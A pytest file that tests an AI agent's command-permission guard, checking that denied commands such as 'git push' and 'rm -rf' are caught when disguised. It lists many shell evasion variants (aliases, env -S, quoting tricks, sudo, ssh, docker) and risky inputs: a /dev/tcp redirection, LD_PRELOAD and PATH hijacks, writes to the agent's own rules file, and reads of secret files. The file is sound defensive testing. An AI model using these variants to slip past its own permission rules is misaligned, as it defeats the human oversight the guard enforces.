"""Rules about commands: what hides a denied one, and what is harmless (A11)."""

import os
import stat
import subprocess
from pathlib import Path

import pytest

from cfs_agents.guards.rules import Call, Decision, Defaults, Rules, Scope, Verdict
from cfs_agents.guards.rules.rules_file import parse_rules
from tests.agents.rules.variants import HARMLESS, PROVABLE, USUAL_ALLOWED, USUAL_RULES

DENIES = parse_rules(
    f"allow = {[f'execute_command({name}:*)' for name in USUAL_ALLOWED.split()]}\ndeny = ['execute_command(victim:*)']",
    Path("rules.toml"),
)
USUAL = parse_rules(f"allow = {USUAL_RULES}\ndeny = ['execute_command(git push:*)']", Path("rules.toml"))


def decide(command: str, rules: Rules, workspace: Path, defaults: Defaults | None = None) -> Decision:
    """Decide about a command in a workspace."""
    return rules.decide(Call("execute_command", command, {"command": command}), Scope(workspace), defaults)


@pytest.mark.parametrize("command", PROVABLE)
def test_a_hidden_command_that_is_denied_never_runs_unasked(command: str, tmp_path: Path) -> None:
    """Neither with generous rules, nor where commands run without a question."""
    assert decide(command, DENIES, tmp_path).verdict is not Verdict.ALLOWED
    assert decide(command, DENIES, tmp_path, Defaults(commands=Verdict.ALLOWED)).verdict is not Verdict.ALLOWED
    assert decide(command, DENIES, tmp_path, Defaults(attended=False)).verdict is Verdict.DENIED


def test_most_hidden_commands_are_found_and_denied(tmp_path: Path) -> None:
    """A person is not bothered with what a rule decides."""
    asked = [command for command in PROVABLE if decide(command, DENIES, tmp_path).verdict is Verdict.ASKED]
    assert len(PROVABLE) >= 60
    assert len(asked) <= len(PROVABLE) // 6, asked


@pytest.mark.timeout(300)
def test_the_variants_run_what_they_hide(tmp_path: Path) -> None:
    """Real bash runs the recording program in each of them, so none is a straw man."""
    record = tmp_path / "record"
    programs = tmp_path / "bin"
    programs.mkdir()
    victim = programs / "victim"
    victim.write_text(f"#!/bin/sh\necho ran >> '{record}'\n")
    victim.chmod(victim.stat().st_mode | stat.S_IXUSR)
    sudo = programs / "sudo"
    sudo.write_text("#!/bin/sh\nexit 1\n")
    sudo.chmod(0o700)
    environment = {"PATH": f"{programs}:{os.environ['PATH']}", "HOME": str(tmp_path)}
    idle = []
    for command in PROVABLE:
        record.unlink(missing_ok=True)
        subprocess.run(
            ["bash", "-c", command],
            cwd=tmp_path,
            env=environment,
            input=b"",
            capture_output=True,
            timeout=30,
            check=False,
        )
        if not record.exists():
            idle.append(command)
    assert idle == ["command -p -- victim x"]  # -p looks in the system's folders, where a test puts nothing


def test_harmless_commands_are_hardly_ever_asked(tmp_path: Path) -> None:
    """Of 46 usual ones at most 4 are asked under usual rules, and none is denied."""
    verdicts = {command: decide(command, USUAL, tmp_path) for command in HARMLESS}
    assert len(HARMLESS) >= 40
    assert [command for command, decision in verdicts.items() if decision.verdict is Verdict.DENIED] == []
    asked = {command: decision.reason for command, decision in verdicts.items() if decision.verdict is Verdict.ASKED}
    assert len(asked) <= 4, asked


@pytest.mark.parametrize(
    "command",
    [
        "git push",
        "git push --force origin main",
        "git -C other push",
        "git --no-pager push",
        "git --git-dir=x --work-tree y push origin",
        "/usr/bin/git push",
        "git -c a.b=c push",
        "git -c alias.x=push x",
        "uv run git push",
        "ssh host 'git push'",
        "sudo git push",
        "git status; git pu''sh",
        "git push 'unclosed",
        "if git push",
        "PATH=/x git push",
        "a=$((x)); git push",
        "git <<< a push",
        "bash --norc -c 'git push'",
        "docker run image git push",
        "env -S 'git push'",
        "env --split-string='git push'",
        "git 2>/dev/null push",
        "alias x='git push'",
    ],
)
def test_a_denied_subcommand_is_found(command: str, tmp_path: Path) -> None:
    """Options before it, other forms and unreadable parts do not hide it."""
    decision = decide(command, USUAL, tmp_path)
    assert decision.verdict is Verdict.DENIED
    assert decision.rule == "execute_command(git push:*)"
    assert decision.source == "rules.toml:2"


@pytest.mark.parametrize(
    "command", ["git $X", 'git "$X" origin', "git {push,x}", "git pu*", "git `echo push`", "git {fd}>x push"]
)
def test_what_may_be_denied_when_it_runs_is_asked(command: str, tmp_path: Path) -> None:
    """A value that is known only then is no way around a rule."""
    rules = parse_rules(
        "allow=['execute_command(git:*)', 'execute_command(echo:*)']\ndeny=['execute_command(git push)']", Path("r")
    )
    assert decide(command, rules, tmp_path).verdict is Verdict.ASKED
    assert decide(command, rules, tmp_path, Defaults(commands=Verdict.ALLOWED)).verdict is Verdict.ASKED


@pytest.mark.parametrize(
    "command",
    ["rm -rf x", "rm -fr x", "rm -r -f x", "rm x -rf", "rm --recursive --force x", "rm -Rf x", "rm --rec --fo x"],
)
def test_denied_options_are_found_in_every_form(command: str, tmp_path: Path) -> None:
    """Clusters, orders and long names."""
    rules = parse_rules("allow=['execute_command(rm:*)']\ndeny=['execute_command(rm -rf:*)']", Path("r"))
    assert decide(command, rules, tmp_path).verdict is Verdict.DENIED
    assert decide("rm x", rules, tmp_path).verdict is Verdict.ALLOWED


@pytest.mark.parametrize(
    "command",
    [
        "ls > /etc/x",
        "ls >> ../x",
        "ls &> ~/x",
        "ls > $X",
        "cd .. && ls > x",
        "cd && ls > x",
        "ls > /dev/tcp/host/80",
        "ls > .cfs/rules.toml",
        "PATH=. ls",
        "LD_PRELOAD=x ls",
        "BASH_ENV=x ls",
        "IFS=x; ls",
        "export PATH=$PATH:.",
        "read PATH",
        "for PATH in x; do ls; done",
        "unset PATH; ls",
        "GIT_PAGER=x git log",
        "alias ls=x",
        "/opt/ls",
        "./ls",
        "$X",
        "l? x",
        "ls 'unclosed",
        "{fd}>x ls",
        "ls (",
        "ls\rx",
        "ls\u00a0x",
        "python -c 'x'",
        "find . -delete",
        "sort -o x y",
        "xargs rm",
        "sudo ls",
        "git diff --output=x",
        "git log --ext-diff",
        "sed -i s/a/b/ x",
        "git -c core.pager=x status",
    ],
)
def test_what_rules_cannot_know_is_asked(command: str, tmp_path: Path) -> None:
    """Under the usual rules, which allow `ls`, `find`, `sort` and so on."""
    decision = decide(command, USUAL, tmp_path)
    assert decision.verdict is Verdict.ASKED
    assert decision.reason


def test_links_do_not_lead_a_redirection_out(tmp_path: Path) -> None:
    """What counts is where the file is."""
    workspace = tmp_path / "w"
    workspace.mkdir()
    (workspace / "link").symlink_to(tmp_path)
    assert decide("ls > link/x", USUAL, workspace).verdict is Verdict.ASKED
    assert decide("ls > x", USUAL, workspace).verdict is Verdict.ALLOWED


def test_rules_for_files_hold_for_redirections(tmp_path: Path) -> None:
    """A file that may not be written is not written by the shell, either."""
    rules = parse_rules(
        "allow = ['execute_command(*)', 'write_file(/opt/out/**)']\n"
        "deny = ['write_file(.env)', 'read_file(secret/**)']",
        Path("r"),
    )
    assert decide("echo x > .env", rules, tmp_path).verdict is Verdict.DENIED
    assert decide("cd a; echo x > ../.env", rules, tmp_path).verdict is Verdict.DENIED
    assert decide("cat < secret/x", rules, tmp_path).verdict is Verdict.DENIED
    assert decide("echo x > /opt/out/y", rules, tmp_path).verdict is Verdict.ALLOWED


def test_the_reason_says_what_to_do(tmp_path: Path) -> None:
    """A model reads it as the result of its call."""
    denied = decide("true && git push", USUAL, tmp_path)
    assert denied.reason.startswith(
        "execute_command was not run: the rule execute_command(git push:*) (rules.toml:2) denies it"
        " because of git push."
    )
    unattended = decide("cargo build", USUAL, tmp_path, Defaults(attended=False))
    assert unattended.verdict is Verdict.DENIED
    assert "no rule allows cargo build, and no person can be asked" in unattended.reason
    assert "'execute_command(cargo build:*)'" in unattended.reason


def test_commands_that_run_unasked_are_not_held_up_without_a_rule_that_restricts(tmp_path: Path) -> None:
    """In a sandbox, what cannot be read is no reason to ask as long as nothing is forbidden."""
    sandboxed = Defaults(commands=Verdict.ALLOWED)
    assert decide("$X; ls > /x", Rules(), tmp_path, sandboxed).verdict is Verdict.ALLOWED
